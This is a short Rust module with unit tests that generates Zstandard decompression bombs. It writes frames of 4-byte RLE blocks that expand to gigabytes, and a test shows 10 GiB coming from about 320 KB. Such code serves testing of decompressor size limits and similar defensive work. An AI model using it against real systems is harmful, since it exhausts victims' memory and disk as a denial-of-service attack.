//! Just enough of Zstandard to write a bomb (RFC 8878).

/// The largest block, in bytes.
const BLOCK: u32 = 128 * 1024;

/// A file that decompresses to at least `length` bytes of `byte`: blocks of one byte and how often it is repeated. 32,768
/// times smaller than what comes out.
pub(super) fn repeated(byte: u8, length: u64) -> Vec<u8> {
    let blocks = length.div_ceil(u64::from(BLOCK));
    // The magic number; a header without a length; a window of one block.
    let mut file = vec![0x28, 0xb5, 0x2f, 0xfd, 0x00, 7 << 3];
    for block in 1..=blocks {
        let last = u32::from(block == blocks);
        let header = last | 1 << 1 | BLOCK << 3;
        file.extend_from_slice(&header.to_le_bytes()[..3]);
        file.push(byte);
    }
    file
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_bomb_is_small() {
        assert_eq!(repeated(b'a', 10 << 30).len(), 6 + 4 * 81_920);
        assert_eq!(repeated(b'a', 1)[6..], [3, 0, 16, b'a']);
    }
}
